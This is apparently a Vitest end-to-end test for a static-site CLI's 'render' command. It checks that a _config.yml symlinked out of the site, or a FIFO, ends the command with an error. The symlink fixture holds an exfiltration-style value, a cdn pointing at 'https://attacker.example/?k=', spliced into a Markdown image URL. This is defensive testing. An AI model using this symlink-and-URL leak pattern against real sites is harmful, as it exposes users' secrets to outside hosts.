// `pressroom render` on a site that tries to turn its files against the user: a `_config.yml` that links out of
// the site (whose values would otherwise reach Liquid and a remote image URL) or is a FIFO ends the command at
// once with a message saying why, and prints nothing of the outside file. A real process, real links, real FIFOs.
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeFifo, releaseFifos, within } from '../../e2e/fixtures/fifo';
import { type CliRun, runCli } from './run-cli';

let tmp: string;
let site: string;
const post = '_posts/2024-01-01-leak.md';

function render(): Promise<CliRun> {
  return within(runCli(['render', path.join(site, post)], { appDataDir: path.join(tmp, 'app-data') }), 20_000);
}

beforeEach(async () => {
  tmp = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'pressroom-render-confine-')));
  site = path.join(tmp, 'site');
  await fs.mkdir(path.join(site, '_posts'), { recursive: true });
  await fs.writeFile(path.join(tmp, 'elsewhere.yml'), 'title: Stolen\ncdn: "https://attacker.example/?k="\n');
  await fs.writeFile(path.join(site, post), '---\ntitle: Leak\n---\n![x]({{ site.cdn }}secret)\n');
});
afterEach(async () => {
  releaseFifos();
  await fs.rm(tmp, { recursive: true, force: true });
});

describe('pressroom render refuses site files that are not the site’s', () => {
  it('a _config.yml that links out of the site: exits 1, says so, and its values reach no output', async () => {
    await fs.symlink('../elsewhere.yml', path.join(site, '_config.yml'));
    const r = await render();
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/_config\.yml is a symbolic link that leads out of the site/);
    expect(r.stdout + r.stderr).not.toMatch(/attacker\.example|Stolen/);
  });

  it.skipIf(process.platform === 'win32')('a _config.yml that is a FIFO: exits 1 at once instead of hanging', async () => {
    makeFifo(path.join(site, '_config.yml'));
    const r = await render();
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/_config\.yml is a named pipe \(FIFO\)/);
  });
});
